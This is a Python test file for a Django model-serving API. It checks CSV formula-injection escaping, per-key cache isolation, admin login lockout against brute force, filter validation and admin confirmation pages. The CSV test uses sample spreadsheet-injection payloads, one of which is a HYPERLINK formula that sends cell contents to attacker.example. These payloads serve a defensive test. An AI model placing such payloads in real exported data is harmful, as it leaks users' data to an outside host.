"""The "smaller ones" of the Trust issue, each as an attacker or a careless client meets it:
formula cells in CSV downloads, the prediction cache across keys, brute force on the admin
login, and filter values a list endpoint cannot use."""

from __future__ import annotations

import csv
import io

import orjson
import pytest
from django.contrib.admin.utils import quote
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from onnx import TensorProto, helper

from access.models import APIKey
from inference.history import history
from jobs.models import Job
from tests.jobs.api import create_file, created, result_url, wait_finished
from tests.registry.onnx_factories import make_iris_model
from tests.security.battery import IRIS_ROW, SENDERS

# Names and values a spreadsheet would run as formulas if written as they are.
HOSTILE_OUTPUT = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
HOSTILE_TEXTS = ["=1+2", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-inf", "plain", "-1.5"]


def hostile_text_model() -> bytes:
    """A string input "text" [n] echoed by an output whose name is a formula, and "index", the
    position of the text in a small vocabulary: -1 (a negative number) for any other text."""
    graph = helper.make_graph(
        [
            helper.make_node(
                "LabelEncoder",
                ["text"],
                ["index"],
                domain="ai.onnx.ml",
                keys_strings=["plain"],
                values_int64s=[7],
                default_int64=-1,
            ),
            helper.make_node("Identity", ["text"], [HOSTILE_OUTPUT]),
        ],
        "hostile_text",
        [helper.make_tensor_value_info("text", TensorProto.STRING, ["n"])],
        [
            helper.make_tensor_value_info("index", TensorProto.INT64, ["n"]),
            helper.make_tensor_value_info(HOSTILE_OUTPUT, TensorProto.STRING, ["n"]),
        ],
    )
    opsets = [helper.make_opsetid("", 17), helper.make_opsetid("ai.onnx.ml", 3)]
    return helper.make_model(graph, opset_imports=opsets, ir_version=8).SerializeToString()


# --- 1. job results as CSV ---------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_job_result_csv_quotes_formula_cells_and_keeps_numbers(jobs_client, make_model):
    model = make_model(hostile_text_model(), name="hostile-text")
    lines = b"".join(orjson.dumps({"text": text}) + b"\n" for text in HOSTILE_TEXTS)
    job = created(create_file(jobs_client, model, lines, "rows.jsonl"))
    assert wait_finished(jobs_client, job["id"]).status_code == 200

    response = jobs_client.get(result_url(job["id"], format="csv"))
    assert response.status_code == 200
    header, *rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))
    assert header == ["index", "'" + HOSTILE_OUTPUT]
    assert [row[1] for row in rows] == [
        "'=1+2",
        "'+1+2",
        "'-2+3",
        "'@SUM(A1:A9)",
        "'\t=1",
        "'\r=1",
        "'-inf",
        "plain",
        "-1.5",  # a number written as text is no formula: a spreadsheet reads minus one and a half
    ]
    # Numbers stay numbers, negative ones included.
    assert [int(row[0]) for row in rows] == [-1, -1, -1, -1, -1, -1, -1, 7, -1]


# --- 2. the prediction cache is per key --------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("sender", sorted(SENDERS))
def test_cache_never_tells_one_key_what_another_sent(sender, ready_model, make_key):
    send = SENDERS[sender]
    iris = ready_model(make_iris_model(zipmap=False), name="iris")
    path = f"/api/v1/models/{iris['id']}/predict"
    body = orjson.dumps({"input_data": IRIS_ROW})
    _, key_a = make_key("predict", name="tenant-a")
    _, key_b = make_key("predict", name="tenant-b")

    def cache_state(key: str) -> tuple[str, bool]:
        reply = send(path, body, key=key)
        assert reply.status == 200, reply.content[:500]
        return reply.headers["X-Cache"], reply.json()["cached"]

    assert cache_state(key_a) == ("MISS", False)
    assert cache_state(key_a) == ("HIT", True)
    # B's first request for the very input A sent: nothing tells B that A sent it.
    assert cache_state(key_b) == ("MISS", False)
    assert cache_state(key_b) == ("HIT", True)
    assert cache_state(key_a) == ("HIT", True)


# --- 3. brute force on the admin login ---------------------------------------------------------

LOGIN = "/admin/login/?next=/admin/"


def log_in(client: Client, password: str, *, username: str = "ops", address: str = "203.0.113.7", **headers):
    return client.post(LOGIN, {"username": username, "password": password}, REMOTE_ADDR=address, **headers)


def logged_in(response) -> bool:
    return response.status_code == 302 and response["Location"] == "/admin/"


@pytest.mark.django_db
def test_admin_login_locks_after_repeated_failures_until_reset(ops_user, settings):
    assert settings.AXES_FAILURE_LIMIT == 5
    client = Client()
    for _ in range(4):
        response = log_in(client, "wrong")
        assert response.status_code == 200  # the login form again, with its error
        assert "Please enter the correct username and password" in response.content.decode()
    locked = log_in(client, "wrong")
    assert locked.status_code == 429
    assert "Login locked" in locked.content.decode()

    # Locked even with the right password, and no session is created.
    response = log_in(client, "ops-password-123")
    assert response.status_code == 429
    assert "axes_reset" in response.content.decode()
    assert client.get("/admin/").status_code == 302  # still sent to the login page

    call_command("axes_reset", stdout=io.StringIO())
    assert logged_in(log_in(client, "ops-password-123"))
    assert client.get("/admin/").status_code == 200


@pytest.mark.django_db
def test_admin_login_lock_holds_across_addresses_and_forwarded_headers(ops_user):
    # A guesser who changes address (or claims another with X-Forwarded-For) at every try
    # still locks the username; one who changes username still locks the address.
    for attempt in range(5):
        log_in(Client(), "wrong", address=f"198.51.100.{attempt}", HTTP_X_FORWARDED_FOR=f"192.0.2.{attempt}")
    assert log_in(Client(), "ops-password-123", address="198.51.100.99").status_code == 429

    call_command("axes_reset", stdout=io.StringIO())
    for attempt in range(5):
        log_in(Client(), "wrong", username=f"user{attempt}", HTTP_X_FORWARDED_FOR=f"192.0.2.{attempt}")
    assert log_in(Client(), "ops-password-123").status_code == 429  # same address, right password
    assert logged_in(log_in(Client(), "ops-password-123", address="198.51.100.200"))  # another address


# --- 4. filter values a list cannot use ----------------------------------------------------------

LISTS = {"models": "/api/v1/models", "jobs": "/api/v1/jobs", "predictions": "/api/v1/models/{model}/predictions"}
BAD_FILTERS = [
    ("models", "created_after=yesterday", "created_after", "ISO 8601 date-time"),
    ("jobs", "created_after=yesterday", "created_after", "ISO 8601 date-time"),
    ("predictions", "created_after=yesterday", "created_after", "ISO 8601 date-time"),
    ("predictions", "created_before=2026-13-01", "created_before", "ISO 8601 date-time"),
    ("models", "status=bogus", "status", "one of pending, uploaded, validating, ready, error, archived"),
    ("jobs", "status=done", "status", "one of pending, queued, running, completed, failed, cancelled"),
    ("jobs", "priority=urgent", "priority", "one of high, normal, low"),
    ("jobs", "model=not-a-uuid", "model", "a UUID"),
    ("predictions", "cached=maybe", "cached", "one of true, false"),
    ("models", "ordering=bogus", "ordering", "fields among created_at, file_size, name, status"),
    ("models", "ordering=-name,owner", "ordering", "Cannot order by 'owner'"),
    ("models", "page=abc", "page", "a whole number from 1"),
    ("jobs", "page=0", "page", "a whole number from 1"),
]


@pytest.fixture
def list_client(client_for, make_model):
    client = client_for("read", "predict")
    client.model = make_model(make_iris_model(zipmap=False), name="iris")
    return client


@pytest.mark.django_db
@pytest.mark.parametrize(("route", "query", "parameter", "expected"), BAD_FILTERS)
def test_list_refuses_a_filter_value_it_cannot_use(list_client, route, query, parameter, expected):
    response = list_client.get(LISTS[route].format(model=list_client.model.pk) + "?" + query)
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "invalid_filter"
    assert body["detail"].startswith(f"{parameter}: ")
    assert expected in body["detail"]
    assert list(body["errors"]) == [parameter]


@pytest.mark.django_db
@pytest.mark.parametrize("route", sorted(LISTS))
def test_list_refuses_a_parameter_it_does_not_take(list_client, route):
    response = list_client.get(LISTS[route].format(model=list_client.model.pk) + "?created_since=2026-01-01&page=1")
    assert response.status_code == 400, response.content
    body = response.json()
    assert body["code"] == "unknown_parameter"
    assert "'created_since'" in body["detail"] and "created_after" in body["detail"]


@pytest.mark.django_db
def test_created_after_filters_models_and_an_empty_value_is_no_filter(list_client):
    old, new = "2020-01-01T00:00:00Z", "2999-01-01T00:00:00Z"
    models = LISTS["models"]
    assert list_client.get(f"{models}?created_after={old}").json()["count"] == 1
    assert list_client.get(f"{models}?created_after={new}").json()["count"] == 0
    assert list_client.get(f"{models}?created_before={new}&status=ready&ordering=-version").json()["count"] == 1
    assert list_client.get(f"{models}?created_after=&status=").json()["count"] == 1


# --- 5. confirmations in the admin, and the key shown once -------------------------------------


@pytest.fixture
def admin_client(ops_user):
    client = Client()
    client.force_login(ops_user)
    return client


@pytest.mark.django_db
def test_revoking_a_key_shows_what_changes_and_nothing_changes_before_confirming(admin_client, make_key, make_model):
    iris = make_model(make_iris_model(zipmap=False), name="iris")
    api_key, raw = make_key("read", "predict", name="billing-svc")
    user = Client(HTTP_AUTHORIZATION=f"Bearer {raw}")
    for row in ([[5.1, 3.5, 1.4, 0.2]], [[6.7, 3.0, 5.2, 2.3]]):
        body = orjson.dumps({"input_data": {"X": row}})
        assert user.post(f"/api/v1/models/{iris.pk}/predict", body, content_type="application/json").status_code == 200
    history.flush()
    revoke_url = reverse("admin:access_apikey_revoke", args=[quote(api_key.pk)])

    page = admin_client.get(revoke_url)
    assert page.status_code == 200
    html = page.content.decode()
    assert "billing-svc" in html and api_key.prefix in html and "read, predict" in html
    assert "cannot be undone" in html and "active &rarr; revoked" in html
    assert '<td class="mf-predictions">2</td>' in html and '<td class="mf-jobs">0</td>' in html
    assert "ago)" in html  # its last use
    # Neither the page nor a POST without the confirmation changes anything.
    assert admin_client.post(revoke_url).status_code == 200
    assert user.get("/api/v1/models").status_code == 200

    done = admin_client.post(revoke_url, {"confirm": "yes"})
    assert done.status_code == 302
    refused = user.get("/api/v1/models")
    assert (refused.status_code, refused.json()["code"]) == (401, "api_key_revoked")


@pytest.mark.django_db
def test_cancelling_a_job_shows_status_and_progress_then_needs_a_confirming_post(admin_client, jobs_client, make_model):
    iris = make_model(make_iris_model(zipmap=False), name="iris")
    job = created(create_file(jobs_client, iris, b'{"X": [1, 2, 3, 4]}\n' * 10, "rows.jsonl"))
    Job.objects.filter(pk=job["id"]).update(status=Job.Status.RUNNING, progress_done=4)
    cancel_url = reverse("admin:jobs_job_cancel", args=[job["id"]])

    page = admin_client.get(cancel_url)
    assert page.status_code == 200
    html = page.content.decode()
    assert "Cancel job?" in html and "iris:1.0.0" in html and "key:jobs-a" in html
    assert "Running</span> &rarr; cancelled" in html and "4 / 10 (40%)" in html
    assert admin_client.post(cancel_url).status_code == 200
    assert Job.objects.get(pk=job["id"]).status == Job.Status.RUNNING

    assert admin_client.post(cancel_url, {"confirm": "yes"}).status_code == 302
    assert Job.objects.get(pk=job["id"]).status == Job.Status.CANCELLED
    result = jobs_client.get(result_url(job["id"]))
    assert (result.status_code, result.json()["code"]) == (409, "job_cancelled")


@pytest.mark.django_db
def test_reloading_the_key_created_page_creates_no_second_key_and_hides_the_key(admin_client):
    form = {"name": "ci", "scopes": ["read"], "expiry_date_0": "", "expiry_date_1": ""}
    answer = admin_client.post(reverse("admin:access_apikey_add"), form)
    assert answer.status_code == 302  # redirect after POST: a reload repeats the GET, not the POST
    api_key = APIKey.objects.get()
    first = admin_client.get(answer["Location"]).content.decode()
    raw = first.split('id="mf-raw-key" value="', 1)[1].split('"', 1)[0]
    assert api_key.is_valid(raw)

    reloaded = admin_client.get(answer["Location"])
    assert reloaded.status_code == 200
    assert raw not in reloaded.content.decode()
    assert APIKey.objects.count() == 1
